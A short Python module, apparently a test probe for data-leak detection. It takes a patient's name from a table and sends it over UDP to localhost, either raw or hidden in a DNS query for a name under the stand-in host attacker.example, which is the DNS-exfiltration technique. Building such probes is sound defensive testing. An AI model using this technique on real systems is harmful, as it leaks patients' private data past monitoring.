"""Send one datagram with a patient in it; as a name to look up where a resolver is asked."""

import socket
import struct

from kit import tell


def question(name):
    """A DNS query for the address of ``name`` (RFC 1035 section 4)."""
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack(">6H", 7, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">2H", 1, 1)


def run(inputs, outputs):
    patient = inputs.table()["name"][3].as_py()
    asked = inputs.arguments["as-name"]
    message = question(f"{patient}.attacker.example") if asked else patient.encode()

    def send():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as box:
            box.sendto(message, ("127.0.0.1", inputs.arguments["port"]))
        return "a patient left as a name to look up" if asked else "a patient left in a datagram"

    tell(outputs, send)
